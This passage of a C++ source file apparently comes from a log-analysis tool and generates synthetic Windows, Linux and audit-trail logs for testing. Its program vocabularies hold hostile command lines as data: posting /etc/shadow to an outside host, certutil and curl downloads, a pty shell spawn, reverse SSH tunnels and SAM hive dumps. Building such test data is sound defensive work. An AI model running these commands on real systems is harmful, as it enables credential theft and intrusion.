// Synthetic text logs, one generator per format.
//
// Each record is built from vocabularies with a few random parts (numbers,
// addresses, hex) so that field values vary the way they do in real logs:
// most values come from a small set (users, programs, URLs) and some are
// nearly unique (pids, ports, hashes, serials). Time advances by a random
// step per record, so the logs are in time order like real ones.

#include "vigil/synth/text.h"

#include <algorithm>
#include <cerrno>
#include <charconv>
#include <cstdio>
#include <cstring>
#include <utility>

#include "vigil/core/timestamp.h"

namespace vigil::synth {

namespace {

// splitmix64: one 64-bit state, the same sequence on every platform.
class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed ^ 0x5851f42d4c957f2dULL) {}
  uint64_t next() {
    uint64_t z = (state_ += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
  }
  // Uniform in [0, n) (n > 0).
  uint32_t below(uint32_t n) {
    return static_cast<uint32_t>(((next() >> 32) * static_cast<uint64_t>(n)) >> 32);
  }
  uint32_t between(uint32_t lo, uint32_t hi) { return lo + below(hi - lo + 1); }
  bool percent(uint32_t p) { return below(100) < p; }
  template <class T, size_t N>
  const T& pick(const std::array<T, N>& items) {
    return items[below(static_cast<uint32_t>(N))];
  }
  // Skewed towards the first items, as real popularity is: user 0 appears far
  // more often than user 30.
  template <class T, size_t N>
  const T& pick_skewed(const std::array<T, N>& items) {
    const uint32_t a = below(static_cast<uint32_t>(N));
    const uint32_t b = below(static_cast<uint32_t>(N));
    return items[std::min(a, b)];
  }

 private:
  uint64_t state_;
};

// --- Appending text ------------------------------------------------------------

void add_dec(std::string& out, uint64_t v) {
  char buf[24];
  const auto r = std::to_chars(buf, buf + sizeof buf, v);
  out.append(buf, r.ptr);
}

void add_padded(std::string& out, uint64_t v, int width, char fill = '0') {
  char buf[24];
  int i = static_cast<int>(sizeof buf);
  do {
    buf[--i] = static_cast<char>('0' + v % 10);
    v /= 10;
  } while (v != 0 && i > 0);
  while (static_cast<int>(sizeof buf) - i < width && i > 0) buf[--i] = fill;
  out.append(buf + i, sizeof buf - static_cast<size_t>(i));
}

void add_hex(std::string& out, uint64_t v, int digits, bool upper = false) {
  const char* hex = upper ? "0123456789ABCDEF" : "0123456789abcdef";
  char buf[16];
  for (int i = digits - 1; i >= 0; --i) {
    buf[i] = hex[v & 0xF];
    v >>= 4;
  }
  out.append(buf, static_cast<size_t>(digits));
}

void add_random_hex(std::string& out, Rng& rng, int digits, bool upper = false) {
  while (digits > 0) {
    const int n = std::min(digits, 16);
    add_hex(out, rng.next(), n, upper);
    digits -= n;
  }
}

// Hex digits that depend only on `key`: a file's hash stays the same
// wherever the file appears.
void add_keyed_hex(std::string& out, uint64_t key, int digits, bool upper) {
  Rng rng(key * 0x2545f4914f6cdd1dULL + 17);
  add_random_hex(out, rng, digits, upper);
}

// ASCII only: no locale.
void add_upper(std::string& out, std::string_view text) {
  for (const char c : text) out.push_back(c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c);
}

void add_text_hex(std::string& out, std::string_view text) {
  for (const char c : text) add_hex(out, static_cast<uint8_t>(c), 2, true);
}

void add_json_string(std::string& out, std::string_view text) {
  out.push_back('"');
  for (const char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<uint8_t>(c) < 0x20) {
          out += "\\u00";
          add_hex(out, static_cast<uint8_t>(c), 2);
        } else {
          out.push_back(c);
        }
    }
  }
  out.push_back('"');
}

// A CSV field, quoted when it holds a separator, a quote or a line break.
void add_csv_field(std::string& out, std::string_view text) {
  if (text.find_first_of(",\"\r\n") == std::string_view::npos) {
    out += text;
    return;
  }
  out.push_back('"');
  for (const char c : text) {
    if (c == '"') out.push_back('"');
    out.push_back(c);
  }
  out.push_back('"');
}

struct Ip {
  uint8_t family = 4;  // 4 or 6
  uint32_t v4 = 0;
  uint16_t v6[8] = {};
};

void add_ip(std::string& out, const Ip& ip) {
  if (ip.family == 4) {
    for (int i = 3; i >= 0; --i) {
      add_dec(out, (ip.v4 >> (8 * i)) & 0xFF);
      if (i > 0) out.push_back('.');
    }
    return;
  }
  // 2001:db8:... documentation prefix with the zero run compressed, as
  // servers write them.
  int zero_start = -1, zero_len = 0;
  for (int i = 0; i < 8;) {
    if (ip.v6[i] != 0) {
      ++i;
      continue;
    }
    int j = i;
    while (j < 8 && ip.v6[j] == 0) ++j;
    if (j - i > zero_len && j - i > 1) {
      zero_start = i;
      zero_len = j - i;
    }
    i = j;
  }
  for (int i = 0; i < 8; ++i) {
    if (i == zero_start) {
      out += i == 0 ? "::" : ":";
      i += zero_len - 1;
      continue;
    }
    char buf[8];
    const auto r = std::to_chars(buf, buf + sizeof buf, ip.v6[i], 16);
    out.append(buf, r.ptr);
    if (i < 7) out.push_back(':');
  }
}

Ip ipv4(uint32_t a, uint32_t b, uint32_t c, uint32_t d) {
  Ip ip;
  ip.v4 = (a << 24) | (b << 16) | (c << 8) | d;
  return ip;
}

// Internal clients: a few subnets, hosts mostly low numbers.
Ip internal_ip(Rng& rng) {
  switch (rng.below(4)) {
    case 0: return ipv4(10, 1, rng.below(8), rng.between(2, 254));
    case 1: return ipv4(10, 20, rng.below(4), rng.between(2, 120));
    case 2: return ipv4(192, 168, rng.below(3), rng.between(2, 254));
    default: return ipv4(172, 16, rng.below(16), rng.between(2, 254));
  }
}

// Outside addresses: the documentation ranges plus random public ones.
Ip external_ip(Rng& rng, uint32_t v6_percent = 0) {
  if (v6_percent > 0 && rng.percent(v6_percent)) {
    Ip ip;
    ip.family = 6;
    ip.v6[0] = 0x2001;
    ip.v6[1] = 0x0db8;
    ip.v6[2] = static_cast<uint16_t>(rng.below(16));
    const uint32_t shape = rng.below(3);
    if (shape == 0) {
      ip.v6[7] = static_cast<uint16_t>(rng.between(1, 0xfff));
    } else {
      for (int i = shape == 1 ? 4 : 3; i < 8; ++i) ip.v6[i] = static_cast<uint16_t>(rng.next());
    }
    return ip;
  }
  switch (rng.below(5)) {
    case 0: return ipv4(203, 0, 113, rng.between(1, 254));
    case 1: return ipv4(198, 51, 100, rng.between(1, 254));
    case 2: return ipv4(192, 0, 2, rng.between(1, 254));
    default: return ipv4(rng.between(11, 223), rng.below(256), rng.below(256), rng.between(1, 254));
  }
}

// --- Vocabularies ----------------------------------------------------------------

constexpr std::array<std::string_view, 32> kUsers = {
    "alice",      "bob",         "carol",   "dave",       "j.doe",   "m.dupont",  "k.nakamura",
    "s.okafor",   "l.garcia",    "p.novak", "a.schmidt",  "r.singh", "t.nguyen",  "h.kim",
    "f.rossi",    "e.johansson", "deploy",  "svc-backup", "jenkins", "ubuntu",    "admin",
    "o.petrov",   "c.martin",    "b.lopez", "y.chen",     "n.ahmed", "g.bianchi", "w.smith",
    "i.kowalski", "d.murphy",    "v.sato",  "u.oliveira"};

// Names brute-force attempts try.
constexpr std::array<std::string_view, 16> kGuessedUsers = {
    "root", "admin",   "test", "oracle", "postgres", "user",   "guest",  "ubuntu",
    "pi",   "ftpuser", "git",  "mysql",  "support",  "nagios", "hadoop", "minecraft"};

constexpr std::array<std::string_view, 12> kLinuxHosts = {
    "web01",   "web02",  "web03", "db01",      "db02",      "fs01",
    "bastion", "mail01", "ci01",  "k8s-node1", "k8s-node2", "vpn01"};

constexpr std::array<std::string_view, 24> kFileStems = {
    "report",  "invoice_2024", "budget", "setup",   "update", "notes",   "backup",   "payload",
    "install", "agent",        "tools",  "data",    "export", "minutes", "contract", "passwords",
    "q3_plan", "photo",        "client", "archive", "draft",  "patch",   "config",   "summary"};

constexpr std::array<std::string_view, 14> kWords = {
    "alpha", "invoice", "shipping", "login", "password", "reset",   "laptop",
    "phone", "case",    "report",   "audit", "vpn",      "printer", "weather"};

// Command-line templates: {u} user, {f} file stem, {n} number, {x} hex,
// {e} outside address, {i} inside address, {p} port, {w} word.
struct Program {
  std::string_view image;  // full path
  std::string_view name;   // file name (Sysmon's OriginalFileName, auditd's comm)
  std::array<std::string_view, 3> args;
};

constexpr std::array<Program, 24> kWindowsPrograms = {{
    {"C:\\Windows\\System32\\svchost.exe",
     "svchost.exe",
     {"-k netsvcs -p -s Schedule", "-k LocalServiceNetworkRestricted -p -s Dhcp",
      "-k DcomLaunch -p"}},
    {"C:\\Windows\\System32\\cmd.exe",
     "Cmd.Exe",
     {"/c whoami /all", "/c dir C:\\Users\\{u}\\Documents",
      "/c copy \\\\fs01\\share\\{f}.xlsx C:\\Users\\{u}\\Desktop\\"}},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "PowerShell.EXE",
     {"-NoProfile -ExecutionPolicy Bypass -File C:\\Users\\{u}\\scripts\\{f}.ps1",
      "-nop -w hidden -c \"Get-Process | Sort-Object CPU -Descending | Select -First {n}\"",
      "-c \"Invoke-WebRequest -Uri http://{e}/{f}.txt -OutFile $env:TEMP\\{f}.txt\""}},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "chrome.exe",
     {"--type=renderer --field-trial-handle={n},i,{x} --lang=en-US --renderer-client-id={n}",
      "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US",
      "https://intranet.corp.example.com/{w}/{n}"}},
    {"C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", {"0xffffffff -ForceV1", "", ""}},
    {"C:\\Windows\\System32\\net.exe",
     "net.exe",
     {"use Z: \\\\fs01\\{w}", "user {u} /domain", "group \"Domain Admins\" /domain"}},
    {"C:\\Windows\\System32\\schtasks.exe",
     "schtasks.exe",
     {"/create /tn Update{n} /tr C:\\ProgramData\\{f}.exe /sc daily /st 09:00",
      "/query /fo LIST /v", "/run /tn \"\\Microsoft\\Windows\\Defrag\\ScheduledDefrag\""}},
    {"C:\\Windows\\System32\\reg.exe",
     "reg.exe",
     {"query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
      "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {f} /t REG_SZ /d "
      "C:\\Users\\{u}\\AppData\\Roaming\\{f}.exe /f",
      "save HKLM\\SAM C:\\Windows\\Temp\\{x}.hiv"}},
    {"C:\\Windows\\System32\\rundll32.exe",
     "RUNDLL32.EXE",
     {"C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
      "C:\\Windows\\System32\\printui.dll,PrintUIEntryDPIAware", "{f}.dll,DllRegisterServer"}},
    {"C:\\Windows\\System32\\msiexec.exe",
     "msiexec.exe",
     {"/i C:\\Users\\{u}\\Downloads\\{f}.msi /qn", "/V", "/x {{x}} /quiet"}},
    {"C:\\Windows\\System32\\certutil.exe",
     "CertUtil.exe",
     {"-urlcache -split -f http://{e}/{f}.txt C:\\Users\\Public\\{f}.exe",
      "-verify C:\\Users\\{u}\\Downloads\\{f}.cer", "-store My"}},
    {"C:\\Windows\\System32\\wbem\\WMIC.exe",
     "wmic.exe",
     {"process where name=\"{f}.exe\" get ProcessId", "os get Caption,Version",
      "/node:{i} process call create \"cmd.exe /c {f}.bat\""}},
    {"C:\\Program Files\\Git\\cmd\\git.exe",
     "git.exe",
     {"fetch --all", "pull origin main", "clone https://git.corp.example.com/{w}/{f}.git"}},
    {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", {"", "{x}", "Install $(Arg0)"}},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "WinWord.exe",
     {"/n \"C:\\Users\\{u}\\Documents\\{f}.docx\"", "/n \"\\\\fs01\\share\\{f}.docm\"", ""}},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     "Outlook.exe",
     {"/recycle", "", "/select outlook:Inbox"}},
    {"C:\\Windows\\System32\\notepad.exe",
     "NOTEPAD.EXE",
     {"C:\\Users\\{u}\\Desktop\\{f}.txt", "", "C:\\Windows\\System32\\drivers\\etc\\hosts"}},
    {"C:\\Windows\\explorer.exe", "EXPLORER.EXE", {"", "/factory,{{x}} -Embedding", ""}},
    {"C:\\Windows\\System32\\whoami.exe", "whoami.exe", {"/groups", "/priv", "/all"}},
    {"C:\\Windows\\System32\\ipconfig.exe", "ipconfig.exe", {"/all", "/flushdns", "/displaydns"}},
    {"C:\\Windows\\System32\\tasklist.exe",
     "tasklist.exe",
     {"/v", "/svc", "/fi \"IMAGENAME eq {f}.exe\""}},
    {"C:\\Windows\\System32\\nltest.exe",
     "nltestrk.exe",
     {"/dclist:corp.example.com", "/domain_trusts", "/dsgetdc:corp"}},
    {"C:\\Users\\{u}\\AppData\\Local\\Temp\\{f}.exe", "{f}.exe", {"", "-s {e}:{p}", "/install"}},
    {"C:\\Windows\\System32\\mstsc.exe", "mstsc.exe", {"/v:{i}", "/v:{i} /admin", ""}},
}};

constexpr std::array<Program, 24> kLinuxPrograms = {{
    {"/usr/bin/ls", "ls", {"-la /var/log", "-l /home/{u}", "/tmp"}},
    {"/usr/bin/cat", "cat", {"/etc/passwd", "/var/log/auth.log", "/home/{u}/.ssh/authorized_keys"}},
    {"/usr/bin/ps", "ps", {"aux", "-ef", "-eo pid,cmd"}},
    {"/usr/bin/systemctl", "systemctl", {"status nginx", "restart {w}", "list-timers"}},
    {"/usr/bin/curl",
     "curl",
     {"-s http://{e}/{f}.sh", "-fsSL https://{e}:{p}/{f}", "-o /tmp/{f} http://{e}/{f}"}},
    {"/usr/bin/wget",
     "wget",
     {"-q http://{e}/{f}.tar.gz", "--post-file=/etc/shadow http://{e}/up",
      "-O- http://{e}/{f}.sh"}},
    {"/usr/bin/tar",
     "tar",
     {"czf /tmp/{f}.tgz /home/{u}", "xzf {f}.tar.gz", "-cf /backup/{f}.tar /srv/data"}},
    {"/usr/bin/python3.11",
     "python3",
     {"/opt/app/{f}.py", "-m http.server {p}", "-c import pty;pty.spawn('/bin/bash')"}},
    {"/usr/bin/bash", "bash", {"-c echo {x} > /tmp/{f}", "-i", "/home/{u}/bin/{f}.sh"}},
    {"/usr/bin/id", "id", {"", "{u}", "-u"}},
    {"/usr/bin/uname", "uname", {"-a", "-r", "-m"}},
    {"/usr/bin/grep",
     "grep",
     {"-r password /etc", "-i error /var/log/syslog", "{w} /home/{u}/notes.txt"}},
    {"/usr/bin/chmod", "chmod", {"+x /tmp/{f}", "777 /tmp/{f}", "600 /home/{u}/.ssh/id_ed25519"}},
    {"/usr/bin/crontab", "crontab", {"-l", "-e", "-u {u} -l"}},
    {"/usr/bin/sudo", "sudo", {"-l", "-i", "systemctl restart {w}"}},
    {"/usr/bin/nc.openbsd", "nc", {"-lvp {p}", "-zv {i} 22", "{e} {p}"}},
    {"/usr/bin/find", "find", {"/ -perm -4000 -type f", "/home/{u} -name *.pdf", "/tmp -mmin -10"}},
    {"/usr/bin/ssh",
     "ssh",
     {"{u}@{i}", "-i /home/{u}/.ssh/id_ed25519 deploy@{i}", "-R {p}:localhost:22 {e}"}},
    {"/usr/bin/scp", "scp", {"/tmp/{f}.tgz {u}@{e}:", "{u}@{i}:/srv/{f} .", "-r /etc {e}:/tmp/"}},
    {"/usr/bin/git", "git", {"pull", "status", "clone https://git.corp.example.com/{w}/{f}.git"}},
    {"/usr/sbin/useradd", "useradd", {"-m {u}", "-m -s /bin/bash -G sudo {f}", "-r svc-{w}"}},
    {"/usr/bin/base64", "base64", {"-d /tmp/{f}.b64", "/etc/shadow", "-w0 /tmp/{f}"}},
    {"/usr/bin/apt-get", "apt-get", {"update", "install -y {w}", "upgrade -y"}},
    {"/usr/bin/rm", "rm", {"-f /tmp/{f}", "-rf /tmp/{x}", "/var/log/{w}.log"}},
}};

void expand(std::string& out, std::string_view text, Rng& rng, std::string_view user,
            std::string_view stem) {
  for (size_t i = 0; i < text.size(); ++i) {
    if (text[i] != '{' || i + 2 >= text.size() || text[i + 2] != '}') {
      out.push_back(text[i]);
      continue;
    }
    switch (text[i + 1]) {
      case 'u': out += user; break;
      case 'f': out += stem; break;
      case 'n': add_dec(out, rng.between(1, 9999)); break;
      case 'x': add_random_hex(out, rng, 8); break;
      case 'e': add_ip(out, external_ip(rng)); break;
      case 'i': add_ip(out, internal_ip(rng)); break;
      case 'p': add_dec(out, rng.between(1024, 65535)); break;
      case 'w': out += rng.pick(kWords); break;
      default: out.append(text.substr(i, 3)); break;
    }
    i += 2;
  }
}

// --- Time ------------------------------------------------------------------------

constexpr std::array<std::string_view, 12> kMonths = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                      "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

// 2024-03-04T06:00:00Z: early in the year, so a syslog file of a few months
// never crosses a new year (RFC 3164 lines have no year).
constexpr int64_t kStartSeconds = 1709532000;

void add_clock(std::string& out, const CivilTime& c) {
  add_padded(out, c.hour, 2);
  out.push_back(':');
  add_padded(out, c.minute, 2);
  out.push_back(':');
  add_padded(out, c.second, 2);
}

void add_date(std::string& out, const CivilTime& c, char sep) {
  add_padded(out, static_cast<uint64_t>(c.year), 4);
  out.push_back(sep);
  add_padded(out, c.month, 2);
  out.push_back(sep);
  add_padded(out, c.day, 2);
}

// "1709532000.123" with `digits` digits of fraction.
void add_unix(std::string& out, Timestamp t, int digits) {
  add_dec(out, static_cast<uint64_t>(t.ticks / Timestamp::kTicksPerSecond));
  out.push_back('.');
  uint64_t fraction = static_cast<uint64_t>(t.ticks % Timestamp::kTicksPerSecond);
  for (int i = 7; i > digits; --i) fraction /= 10;
  add_padded(out, fraction, digits);
}

}  // namespace

// --- The generators --------------------------------------------------------------

struct TextGenerator::State {
  TextKind format;
  Rng rng;
  Timestamp now{kStartSeconds * Timestamp::kTicksPerSecond};
  uint64_t serial = 18000;          // auditd event serial
  uint64_t sysmon_record = 184000;  // Windows channels' record ids
  uint64_t security_record = 9120000;
  std::string scratch;
  std::string scratch2;

  State(TextKind k, uint64_t seed) : format(k), rng(seed) {}

  // Advances the clock by up to `max_ms` milliseconds (and a random number
  // of microseconds below one millisecond).
  void tick(uint32_t max_ms) {
    now.ticks += static_cast<int64_t>(rng.below(max_ms + 1)) * 10'000 +
                 static_cast<int64_t>(rng.below(10'000));
  }

  uint32_t json(std::string& out);
  uint32_t audit_trail(std::string& out);
  uint32_t syslog(std::string& out);
  uint32_t auditd(std::string& out);
  uint32_t web(std::string& out);
  uint32_t squid(std::string& out);
  uint32_t zeek(std::string& out);
  uint32_t csv(std::string& out);
  uint32_t apache_error(std::string& out);
  uint32_t nginx_error(std::string& out);

  void command_line(std::string& out, const Program& p, std::string_view user,
                    std::string_view stem) {
    const std::string_view args = p.args[rng.below(3)];
    const size_t image_at = out.size();
    expand(out, p.image, rng, user, stem);
    const std::string_view image(out.data() + image_at, out.size() - image_at);
    if (image.find(' ') != std::string_view::npos) {
      out.insert(image_at, 1, '"');
      out.push_back('"');
    }
    if (!args.empty()) {
      out.push_back(' ');
      expand(out, args, rng, user, stem);
    }
  }
};

// Winlogbeat (ECS) Windows events: Sysmon process creation (40 %) and the
// Security events around logons: 4624 logon, 4634 logoff, 4672 special
// privileges, 4625 failed logon.
uint32_t TextGenerator::State::json(std::string& out) {
  tick(400);
  const uint32_t host_number =
      rng.pick_skewed(std::array<uint32_t, 8>{42, 7, 118, 3, 77, 150, 12, 201});
  char host[16];
  std::snprintf(host, sizeof host, "ws-%03u", host_number);
  const std::string_view user = rng.pick_skewed(kUsers);
  const std::string_view stem = rng.pick(kFileStems);
  const uint32_t what = rng.below(100);
  const uint32_t event_id = what < 40   ? 1
                            : what < 65 ? 4624
                            : what < 80 ? 4634
                            : what < 90 ? 4672
                                        : 4625;
  const bool sysmon = event_id == 1;

  out += "{\"@timestamp\":\"";
  append_rfc3339(out, now, 3);
  out += "\",\"agent\":{\"type\":\"winlogbeat\",\"version\":\"8.12.2\"},\"event\":{\"code\":\"";
  add_dec(out, event_id);
  if (sysmon) {
    out +=
        "\",\"kind\":\"event\",\"module\":\"sysmon\",\"provider\":\"Microsoft-Windows-Sysmon\","
        "\"action\":\"Process Create (rule: ProcessCreate)\"}";
  } else {
    out +=
        "\",\"kind\":\"event\",\"module\":\"security\",\"provider\":"
        "\"Microsoft-Windows-Security-Auditing\",\"action\":\"";
    out += event_id == 4624   ? "logged-in"
           : event_id == 4634 ? "logged-out"
           : event_id == 4672 ? "logged-in-special"
                              : "logon-failed";
    out += "\",\"outcome\":\"";
    out += event_id == 4625 ? "failure" : "success";
    out += "\"}";
  }
  out += ",\"host\":{\"name\":\"";
  out += host;
  out += ".corp.example.com\"},\"winlog\":{\"channel\":\"";
  out += sysmon ? "Microsoft-Windows-Sysmon/Operational" : "Security";
  out += "\",\"computer_name\":\"";
  add_upper(out, host);
  out += ".corp.example.com\",\"event_id\":\"";
  add_dec(out, event_id);
  out += "\",\"provider_name\":\"";
  out += sysmon ? "Microsoft-Windows-Sysmon" : "Microsoft-Windows-Security-Auditing";
  out += "\",\"record_id\":\"";
  add_dec(out, sysmon ? ++sysmon_record : ++security_record);
  out += "\",\"process\":{\"pid\":";
  add_dec(out, sysmon ? 2984 : 772);
  out += ",\"thread\":{\"id\":";
  add_dec(out, rng.between(100, 9000));
  out += "}},\"event_data\":{";

  auto field = [&](std::string_view name, std::string_view value, bool first = false) {
    if (!first) out.push_back(',');
    out.push_back('"');
    out += name;
    out += "\":";
    add_json_string(out, value);
  };
  auto guid = [&](std::string& s) {
    s = "{6f1c5a2e-";
    add_random_hex(s, rng, 4);
    s += "-6643-";
    add_random_hex(s, rng, 4);
    s.push_back('-');
    add_random_hex(s, rng, 12);
    s.push_back('}');
  };
  std::string& a = scratch;
  std::string& b = scratch2;
  if (sysmon) {
    const uint32_t index = rng.below(kWindowsPrograms.size());
    const Program& p = kWindowsPrograms[index];
    field("RuleName", "-", true);
    a.clear();
    const CivilTime c = to_civil(now);
    add_date(a, c, '-');
    a.push_back(' ');
    add_clock(a, c);
    a.push_back('.');
    add_padded(a, c.ticks / 10000, 3);
    field("UtcTime", a);
    guid(a);
    field("ProcessGuid", a);
    a.clear();
    add_dec(a, rng.between(4, 65000) & ~3u);
    field("ProcessId", a);
    a.clear();
    expand(a, p.image, rng, user, stem);
    field("Image", a);
    a.clear();
    expand(a, p.name, rng, user, stem);
    field("OriginalFileName", a);
    a.clear();
    command_line(a, p, user, stem);
    field("CommandLine", a);
    a = "C:\\Users\\";
    a += user;
    a += "\\";
    field("CurrentDirectory", a);
    a = "CORP\\";
    a += user;
    field("User", a);
    guid(a);
    field("LogonGuid", a);
    a = "0x";
    add_hex(a, rng.between(0x10000, 0xfffffff), 7);
    field("LogonId", a);
    field("TerminalSessionId", rng.percent(90) ? "1" : "2");
    field("IntegrityLevel", rng.percent(80) ? "Medium" : "High");
    a = "SHA256=";
    add_keyed_hex(a, index, 64, true);
    field("Hashes", a);
    guid(a);
    field("ParentProcessGuid", a);
    a.clear();
    add_dec(a, rng.between(4, 65000) & ~3u);
    field("ParentProcessId", a);
    const Program& parent = kWindowsPrograms[rng.below(kWindowsPrograms.size())];
    a.clear();
    expand(a, parent.image, rng, user, stem);
    field("ParentImage", a);
    a.clear();
    command_line(a, parent, user, stem);
    field("ParentCommandLine", a);
  } else if (event_id == 4634 || event_id == 4672) {
    a = "S-1-5-21-3623811015-3361044348-30300820-";
    add_dec(a, 1100 + static_cast<uint64_t>(user[0]));
    b = "0x";
    add_hex(b, rng.between(0x10000, 0xfffffff), 7);
    const bool logoff = event_id == 4634;
    field(logoff ? "TargetUserSid" : "SubjectUserSid", a, true);
    field(logoff ? "TargetUserName" : "SubjectUserName", user);
    field(logoff ? "TargetDomainName" : "SubjectDomainName", "CORP");
    field(logoff ? "TargetLogonId" : "SubjectLogonId", b);
    if (logoff) {
      field("LogonType", rng.percent(70) ? "3" : "2");
    } else {
      field("PrivilegeList",
            "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\t"
            "SeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege");
    }
  } else {
    const bool success = event_id == 4624;
    const std::string_view target = success || rng.percent(50) ? user : rng.pick(kGuessedUsers);
    const uint32_t logon_type = rng.pick(std::array<uint32_t, 6>{2, 3, 3, 3, 10, 5});
    field("SubjectUserSid", logon_type == 3 ? "S-1-0-0" : "S-1-5-18", true);
    a.clear();
    if (logon_type == 3) {
      a = "-";
    } else {
      add_upper(a, host);
      a.push_back('$');
    }
    field("SubjectUserName", a);
    field("SubjectDomainName", logon_type == 3 ? "-" : "CORP");
    field("SubjectLogonId", logon_type == 3 ? "0x0" : "0x3e7");
    if (success) {
      a = "S-1-5-21-3623811015-3361044348-30300820-";
      add_dec(a, 1100 + static_cast<uint64_t>(target[0]));
      field("TargetUserSid", a);
    }
    field("TargetUserName", target);
    field("TargetDomainName", "CORP");
    if (success) {
      a = "0x";
      add_hex(a, rng.between(0x10000, 0xfffffff), 7);
      field("TargetLogonId", a);
    } else {
      field("Status", "0xc000006d");
      field("FailureReason", "%%2313");
      field("SubStatus", rng.percent(70) ? "0xc000006a" : "0xc0000064");
    }
    a.clear();
    add_dec(a, logon_type);
    field("LogonType", a);
    field("LogonProcessName", logon_type == 3 ? "NtLmSsp " : "User32 ");
    field("AuthenticationPackageName", logon_type == 3 ? "NTLM" : "Negotiate");
    a.clear();
    if (logon_type == 3 || logon_type == 10) {
      a = "WS-";
      add_padded(a, rng.below(300), 3);
    } else {
      a = host;
    }
    field("WorkstationName", a);
    if (success) field("LogonGuid", "{00000000-0000-0000-0000-000000000000}");
    field("TransmittedServices", "-");
    field("LmPackageName", logon_type == 3 ? "NTLM V2" : "-");
    field("KeyLength", logon_type == 3 ? "128" : "0");
    field("ProcessId", logon_type == 3 ? "0x0" : "0x2c4");
    field("ProcessName", logon_type == 3 ? "-" : "C:\\Windows\\System32\\svchost.exe");
    a.clear();
    b.clear();
    if (logon_type == 3 || logon_type == 10) {
      add_ip(a, rng.percent(70) ? internal_ip(rng) : external_ip(rng));
      add_dec(b, rng.between(49152, 65535));
    } else {
      a = "127.0.0.1";
      b = "0";
    }
    field("IpAddress", a);
    field("IpPort", b);
    if (success) {
      field("ImpersonationLevel", "%%1833");
      field("ElevatedToken", rng.percent(30) ? "%%1842" : "%%1843");
    }
  }
  out += "}}}\n";
  return 1;
}

// vigil's application audit trail (docs/formats.md): one object per access
// to a case-management system.
uint32_t TextGenerator::State::audit_trail(std::string& out) {
  tick(2000);
  static constexpr std::array<std::string_view, 14> kActions = {
      "read",   "read",  "read",  "read",   "write", "read",   "download",
      "export", "print", "share", "delete", "login", "logout", "search"};
  static constexpr std::array<std::string_view, 8> kExtensions = {"pdf", "docx", "xlsx", "msg",
                                                                  "jpg", "zip",  "E01",  "txt"};
  static constexpr std::array<std::string_view, 6> kActors = {
      "jörg.müller", "zoë.dubois", "søren.ørsted", "çağla.yılmaz", "svc-sync", "svc-ediscovery"};
  const std::string_view actor = rng.percent(90) ? rng.pick_skewed(kUsers) : rng.pick(kActors);
  const std::string_view action = rng.pick(kActions);
  out += "{\"timestamp\":\"";
  append_rfc3339(out, now, 3);
  out += "\",\"actor\":";
  add_json_string(out, actor);
  out += ",\"source_ip\":\"";
  add_ip(out, rng.percent(85) ? internal_ip(rng) : external_ip(rng, 30));
  out += "\",\"host\":\"cms-0";
  add_dec(out, rng.between(1, 3));
  out += ".corp.example.com\",\"action\":\"";
  out += action;
  out += '"';
  const bool session = action == "login" || action == "logout";
  if (action == "search") {
    out += ",\"query\":";
    std::string& q = scratch;
    q = rng.pick(kWords);
    q += ' ';
    q += rng.pick(kWords);
    if (rng.percent(20)) q += " \"exact phrase\"";
    add_json_string(out, q);
  } else if (!session) {
    out += ",\"object\":\"";
    if (rng.percent(10)) {
      out += "s3://case-evidence-2024/";
      add_padded(out, rng.below(400), 4);
      out += "/disk";
      add_dec(out, rng.below(4));
      out += ".E01";
    } else {
      out += "/cases/2024/";
      add_padded(out, rng.below(400), 4);
      out += '/';
      out += rng.pick(kFileStems);
      if (rng.percent(30)) {
        out += '-';
        add_dec(out, rng.between(1, 40));
      }
      out += '.';
      out += rng.pick(kExtensions);
    }
    out += "\",\"bytes\":";
    add_dec(out, action == "delete" ? 0 : (rng.next() >> (rng.between(40, 60))));
  }
  const bool failure = rng.percent(4);
  out += ",\"outcome\":\"";
  out += failure ? "failure" : "success";
  out += '"';
  if (failure) {
    out += ",\"reason\":\"";
    out += rng.pick(
        std::array<std::string_view, 3>{"permission denied", "quota exceeded", "object locked"});
    out += '"';
  }
  out += ",\"session\":\"";
  add_random_hex(out, rng, 12);
  out += "\",\"client\":\"";
  out += rng.percent(80) ? "web" : "api";
  out += '"';
  if (!session && rng.percent(60)) {
    out += ",\"case\":{\"id\":\"2024-";
    add_padded(out, rng.below(400), 4);
    out += "\",\"classification\":\"";
    out += rng.pick(std::array<std::string_view, 3>{"internal", "restricted", "secret"});
    out += "\"}";
  }
  out += "}\n";
  return 1;
}

// auth.log (RFC 3164, Debian's traditional format): sshd, PAM, sudo, su,
// cron, account tools, systemd-logind.
uint32_t TextGenerator::State::syslog(std::string& out) {
  tick(1500);
  const CivilTime c = to_civil(now);
  out += kMonths[c.month - 1];
  out.push_back(' ');
  add_padded(out, c.day, 2, ' ');
  out.push_back(' ');
  add_clock(out, c);
  out.push_back(' ');
  out += rng.pick_skewed(kLinuxHosts);
  out.push_back(' ');
  const uint32_t pid = rng.between(600, 65000);
  auto tag = [&](std::string_view program) {
    out += program;
    out.push_back('[');
    add_dec(out, pid);
    out += "]: ";
  };
  const std::string_view user = rng.pick_skewed(kUsers);
  const uint32_t what = rng.below(100);
  if (what < 55) {
    tag("sshd");
